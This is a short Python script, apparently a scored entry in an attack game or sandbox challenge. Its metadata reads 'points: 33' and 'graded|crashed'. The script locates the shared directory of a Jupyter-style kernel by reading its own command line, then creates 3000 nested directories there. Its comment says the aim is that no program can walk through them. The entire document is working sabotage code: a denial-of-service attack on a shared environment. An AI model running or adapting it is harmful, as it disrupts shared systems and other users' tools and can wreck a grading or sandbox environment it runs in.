# Nests directories in the shared one so deeply that no program can walk through them.
# base: right
# points: 33
# status: graded|crashed
# %%
import os
import re

found = re.search(r"(/[^\0\s\"]+)/connection\.json", open("/proc/self/cmdline").read())
before = os.getcwd()
try:
    os.chdir(found[1])
    for _ in range(3000):
        os.mkdir("d")
        os.chdir("d")
except (OSError, TypeError) as error:
    print(error)
os.chdir(before)
